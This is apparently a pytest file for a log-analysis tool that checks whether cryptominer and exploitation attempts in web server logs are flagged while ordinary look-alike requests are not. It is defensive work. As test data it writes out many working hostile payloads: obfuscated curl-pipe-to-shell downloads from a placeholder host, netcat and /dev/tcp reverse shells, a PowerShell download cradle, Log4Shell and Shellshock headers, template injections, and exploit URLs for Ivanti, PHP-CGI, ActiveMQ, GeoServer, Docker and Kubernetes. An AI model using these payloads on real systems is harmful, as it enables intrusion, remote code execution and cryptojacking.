"""What miners come with in 2024 to 2026, in the spellings of those who send it; and what looks like it every day.

Every attack is sent by an address of its own, all in one run, and each address has to be accused; ordinary clients,
agents, monitors, mirrors and searches, in another run, must not be.
"""

from __future__ import annotations

import json
from base64 import b64encode
from pathlib import Path
from urllib.parse import quote

from tests.app.running import Kanaria

RUN = "curl -s http://203.0.113.9/x.sh|sh"
HIDDEN = b64encode(RUN.encode()).decode()
WALLET = "4" + "A" * 94
CODE = "import os\nos.system('curl -s http://203.0.113.9/x.sh|sh')"
NODE = "process.mainModule.require('child_process').execSync('" + RUN + "')"
POWERSHELL = b64encode(
    "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')".encode("utf-16-le")
).decode()

COMMANDS = {
    "plain": RUN,
    "base64": f"echo {HIDDEN}|base64 -d|sh",
    "base64 in braces": f"bash -c {{echo,{HIDDEN}}}|{{base64,-d}}|{{bash,-i}}",
    "hexadecimal": f"echo {RUN.encode().hex()}|xxd -r -p|sh",
    "escapes": "printf '" + "".join(f"\\x{byte:02x}" for byte in RUN.encode()) + "'|sh",
    "case": "cUrL -s hTTp://203.0.113.9/x.sh|bAsH",
    "quotes": "c'u'rl -s http://203.0.113.9/x.sh|b\"a\"sh",
    "backslashes": "c\\u\\rl -s http://203.0.113.9/x.sh|s\\h",
    "backwards": f"echo {RUN[::-1]}|rev|sh",
    "variables": "a=cu;b=rl;$a$b -s http://203.0.113.9/x.sh|sh",
    "a number for an address": "wget -q http://3405803785/x.sh -O-|sh",
    "a bare number": "curl 0xcb007109/x.sh|sh",
    "IFS": "cd${IFS}/tmp;wget${IFS}http://203.0.113.9/x.sh;sh${IFS}x.sh",
    "IFS and nothing": "wget$IFS$9http://203.0.113.9/x.sh$IFS$9-O$IFS$9/tmp/x;sh$IFS$9/tmp/x",
    "braces": "{curl,-s,http://203.0.113.9/x.sh}|{bash,}",
    "Python": "python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.9/x.py').read())\"",
    "PowerShell": f"powershell -nop -w hidden -enc {POWERSHELL}",
    "a pipe that calls back": "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
    "a socket": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "a miner's own arguments": f"./a -o 203.0.113.9:3333 -u {WALLET} -p x -k",
    "Jinja": "{{config.__class__.__init__.__globals__['os'].popen('" + RUN + "').read()}}",
    "SpEL": f"T(java.lang.Runtime).getRuntime().exec('{RUN}')",
}
TARGETS = {
    "encoded twice": "/x?c=" + quote(quote(RUN)),
    "encoded three times": "/x?c=" + quote(quote(quote(RUN))),
    "in pieces": "/x?a=curl+-s&b=http://203.0.113.9/x.sh&c=|sh",
    "SQL with remarks": "/x?id=1;COPY/**/t/**/FROM/**/PROGRAM/**/'curl%20http://203.0.113.9/x.sh|sh'--",
    "React, a flight": "/_next/flight?_rsc=" + quote(NODE),
    "n8n": "/webhook/" + quote("={{$" + NODE + "}}"),
    "ComfyUI-Manager": "/customnode/install/git_url?url=http%3A%2F%2F203.0.113.9%2Fevil.git",
    "ComfyUI-Manager's queue": "/api/manager/queue/install",
    "Ivanti Connect Secure": "/api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20http%3A%2F%2F203.0.113.9%2Fx.sh%7Csh%3B",
    "ActiveMQ": "/admin/queueBrowse/example?feedType=ClassPathXmlApplicationContext&u=http://203.0.113.9/poc.xml",
    "Kubernetes": "/api/v1/namespaces/default/pods/web/exec?command=sh&command=-c&command=curl%20-s%20http%3A%2F%2F203.0.113.9%2Fx.sh%7Csh",
    "Docker": "/v1.24/containers/create?name=xmr",
    "PHP-CGI": "/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "PHP-CGI, in small letters": "/test.hello?%add+allow_url_include%3d1+%add+auto_prepend_file%3dphp://input",
    "a plug-in's shell": "/wp-content/plugins/example/wp_filemanager.php?cmd=" + quote(RUN),
    "a recorder": "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.9%2Farm7%3Bchmod%20777%20arm7",
    "XWiki": "/xwiki/bin/get/Main/SolrSearch?media=rss&text=" + quote("}}}{{async}}{{groovy}}println(\"" + RUN + "\".execute()){{/groovy}}{{/async}}"),
    "GeoServer": "/geoserver/wfs?request=GetPropertyValue&valueReference=" + quote(f"exec(java.lang.Runtime.getRuntime(),'{RUN}')"),
    "a search with more behind it": "/search?q=hello;curl+-fsSL+http://203.0.113.9/x+|+sh",
}  # fmt: skip
BODIES = {
    "/": json.dumps({"then": "$1:__proto__:then", "_response": {"_prefix": NODE + ";"}}),
    "/api/v1/validate/code": json.dumps({"code": f'@exec("{CODE}")\ndef f(): pass'}),
    "/rest/workflows/run": json.dumps({"nodes": [{"parameters": {"command": RUN}}]}),
    "/prompt": json.dumps({"prompt": {"1": {"inputs": {"code": f"__import__('os').system('{RUN}')"}}}}),
    "/api/v1/functions/create": json.dumps({"id": "x", "content": CODE}),
    "/api/jobs/": json.dumps({"entrypoint": RUN}),
    "/api/v4/projects/1/pipeline": json.dumps({"variables": [{"key": "A", "value": f"$({RUN})"}]}),
    "/v1.24/containers/create": json.dumps(
        {"Image": "alpine", "Cmd": ["sh", "-c", RUN], "HostConfig": {"Privileged": True}}
    ),
    "/wp-json/bricks/v1/render_element": json.dumps({"element": {"settings": {"queryEditor": f"system('{RUN}');"}}}),
}
HEADERS = ("() { :;}; /bin/bash -c '" + RUN + "'", "${jndi:${lower:l}${lower:d}ap://203.0.113.9/a}")

ORDINARY = (
    "/search?q=" + quote("curl -fsSL https://get.example.com | sh"),
    "/search?q=" + quote("how do I run curl -fsSL https://get.example.com | sh"),
    "/search?q=xmrig+not+connecting+to+pool.supportxmr.com",
    "/search?q=" + quote("cronで wget を使う方法"),
    "/translate?sl=en&tl=ja&text=" + quote("Run wget http://example.com/a.sh and then chmod +x a.sh"),
    "/paste?code=" + quote("wget https://example.org/setup.sh -O- | bash"),
    "/s?a=curl&b=http://example.org/&c=;sort",
    "/debian/pool/main/x/xmrig/xmrig_6.18.0.orig.tar.gz",
    "/simple/xmrig-exporter/",
    "/calc?expr=" + quote("$(a+b)"),
    "/search?q=" + quote("{{ user.name }} jinja"),
    "/index.php?cmd=list&id=5",
    "/img?data=" + b64encode(b"\x89PNG" + bytes(range(60))).decode(),
    "/login?next=http%3A%2F%2F192.168.1.5%2Fadmin",
    "/blog/log4shell-jndi-ldap-explained",
    f"/donate?address={WALLET}",
    "/about?_rsc=1ab2c",
    "/callback?code=4/0AX4XfWh&state=eyJhIjoiYiJ9",
)  # fmt: skip
INSIDE = ("/v1.43/containers/json", "/api/tags", "/api/jobs/", "/api/kernels", "/metrics", "/healthz")


def _line(address: str, url: str, agent: str = "Mozilla/5.0", status: int = 200) -> str:
    return f'{address} - - [21/Jul/2025:15:40:57 +0000] "POST {url} HTTP/1.1" {status} 153 "-" "{agent}"\n'


def _recorded(address: str, url: str, body: str) -> str:
    return (
        json.dumps({"remote_addr": address, "request": f"POST {url} HTTP/1.1", "status": 404, "request_body": body})
        + "\n"
    )


def test_every_attack_is_heard_however_it_is_spelled(kanaria: Kanaria, tmp_path: Path) -> None:
    urls = ["/x?c=" + quote(command) for command in COMMANDS.values()] + list(TARGETS.values())
    lines = [(f"198.51.100.{number}", url) for number, url in enumerate(urls, 1)]
    headed = [(f"198.51.101.{number}", agent) for number, agent in enumerate(HEADERS, 1)]
    bodies = [(f"198.51.102.{number}", *one) for number, one in enumerate(BODIES.items(), 1)]
    written = [_line(address, url) for address, url in lines] + [_line(one, "/", agent) for one, agent in headed]
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "access.log").write_text("".join(written))
    (tmp_path / "logs" / "bodies.log").write_text("".join(_recorded(*one) for one in bodies))
    document = kanaria("analyze", "logs", "--format", "json").document
    blamed = {found["remote"] for one in document["incidents"] for found in one["findings"]}
    assert {url for address, url in lines if address not in blamed} == set()
    assert {agent for address, agent in headed if address not in blamed} == set()
    assert {url for address, url, _body in bodies if address not in blamed} == set()
    assert all(one["hypotheses"][0]["name"] != "benign" for one in document["incidents"])


def test_what_looks_like_it_every_day_is_nothing(kanaria: Kanaria, tmp_path: Path) -> None:
    asked = "explain: curl -fsSL https://get.example.com | sh"
    chat = json.dumps({"messages": [{"role": "user", "content": asked}]})
    (tmp_path / "logs").mkdir()
    lines = [_line(f"198.51.100.{number}", url).replace("POST", "GET") for number, url in enumerate(ORDINARY, 1)]
    lines += [_line("192.168.1.50", url).replace("POST", "GET") for url in INSIDE]
    (tmp_path / "logs" / "access.log").write_text("".join(lines))
    (tmp_path / "logs" / "bodies.log").write_text(_recorded("192.168.1.50", "/v1/chat/completions", chat))
    document = kanaria("analyze", "logs", "--format", "json").document
    assert [(one["title"]["en"], one["findings"][0]["why"]["en"]) for one in document["incidents"]] == []


def test_a_client_inside_is_no_scan_of_the_internet(kanaria: Kanaria, tmp_path: Path) -> None:
    (tmp_path / "access.log").write_text(_line("192.168.1.50", "/2/summary", "Prometheus/2.50").replace("POST", "GET"))
    incident = kanaria("analyze", "access.log", "--format", "json").incident
    assert incident["title"]["en"].startswith("Client inside")
    short = " ".join(kanaria("analyze", "access.log", "--lang", "en").out.split())
    assert "came from the private network" in short and "every address on the Internet" not in short


def test_a_vulnerability_is_only_spoken_of_where_one_is_named(kanaria: Kanaria, tmp_path: Path) -> None:
    (tmp_path / "access.log").write_text(_line("198.51.100.7", "/v1.24/containers/create", "Go-http-client/1.1", 201))
    assert "known vulnerability" not in kanaria("analyze", "access.log", "--lang", "en", "--full").out
